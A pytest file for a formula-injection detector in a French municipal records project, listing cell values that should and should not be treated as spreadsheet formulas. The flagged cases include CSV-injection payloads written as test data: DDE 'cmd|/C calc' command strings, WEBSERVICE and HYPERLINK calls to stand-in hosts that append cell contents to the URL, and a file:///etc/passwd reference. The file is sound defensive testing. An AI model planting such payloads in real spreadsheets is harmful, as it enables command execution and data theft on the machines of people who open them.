"""What a spreadsheet may take for a formula, and what only looks a little like one."""

from __future__ import annotations

from pathlib import Path

import pytest

from geocontracts.records.formats.read import read_sheet
from geocontracts.records.formulas import begins_formula, formula_cells

FILES = Path(__file__).parents[1] / "intake" / "files"


@pytest.mark.parametrize(
    "text",
    [
        "=1+1", "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "-A1",
        "  =1+1", "\u200b=1+1", "\ufeff\t=1+1", "\uff1d1+1", '- HYPERLINK("x")', "+ cmd|' /C calc'!A0",
        "=", '=HYPERLINK("http://x")', "-cmd", "@A1", "@sum(a1)", "-2+3", "-5%+A1", "-5 +A1", "-5-A1", "--A1",
        "- now()", "- Feuil1!A1", "- 'a b'!A1", "+/-cmd|'/C calc'!A0", '-12 x=HYPERLINK("a")',
        "- (A1)&SUM(A1)", '+ WEBSERVICE ("https://mal.example/"&A1)', '- HYPERLINK ("https://mal.example/"&A1)',
        "@SUM (A1)", "-2%-A1", "+ A1*2", "-2%-'file:///etc/passwd'#$passwd.A1", "-5 km&A1", "- 5 km&'a b'!A1",
        '- IF(TRUE;WEBSERVICE("https://mal.example/"&A1))', "- SUM(A:A)", '- hyperlink("x")', "- (2)*3",
        "- A1", "- $A$1:B2", "- 2020-2026", "\uff0b A1\uff0a2", "- ((A1))",
        '+ webservice ("http://evil")', '- hyperlink ("http://e")', '- 1 + webservice ("http://e")',
    ],
)  # fmt: skip
def test_a_formula_is_noticed(text: str) -> None:
    assert begins_formula(text)


@pytest.mark.parametrize(
    "text",
    [
        "", "-", "--", "–", "-5", "+5", "- 1 234,50 €", "-12,5 %", "+33 3 21 00 00 00", "-1.234.567",
        "- réunion du 3 mars", "- Lens (62)", "Lens", "a=b", "62041", "'=1+1", "« =1+1 »", "/", "...",
        "-5 km", "-5 km/h", "-5%", "-5 (hors taxe)", "+ 5 % (TVA)", "- étude(s)", "- élu(e)s",
        "-12 logement(s)",
        "-- fin", "+/- 5", "@mairie", "@mairie de Lens", "- Venez !", "@mairie (Lens)",
        "- Contrat de ville | ANRU", "- Lot n°1(a)", "- 3 logements(T2)", "+ 2 ETP (chef(fe) de projet)",
        "- bail(aux)", "- logements(T2)", "- logements (T2, T3)", '- Projet ("Cœur de ville")', '- "Lens"',
        "- CRTE (2020-2026)", "- LENS (62)", "- A1 à Lens", "- T2 - Lens", "- Lens/Arras", "- R&D", "- (62)",
        "- ()", "- SUM(A1", "- A1)", "- A1 -", "- A1; B2", "- 14:30", "- étude(s)/projet(s)", "- 12 % (A1)",
    ],
)  # fmt: skip
def test_what_is_no_formula_raises_no_alarm(text: str) -> None:
    assert not begins_formula(text)


def test_the_longest_cell_is_read_once() -> None:
    for text in ("(", "A(", '"', "'", "A1", "1.", "-"):
        assert not begins_formula("- " + text * (32_000 // len(text)) + " fin")


def test_no_list_of_the_corpus_raises_an_alarm() -> None:
    lists = [path for path in sorted(FILES.iterdir()) if path.suffix in {".csv", ".tsv"}]
    assert len(lists) > 25
    for path in lists:
        sheet = read_sheet(path)
        assert formula_cells([(sheet.header_line, sheet.header), *sheet.rows]) == [], path.name
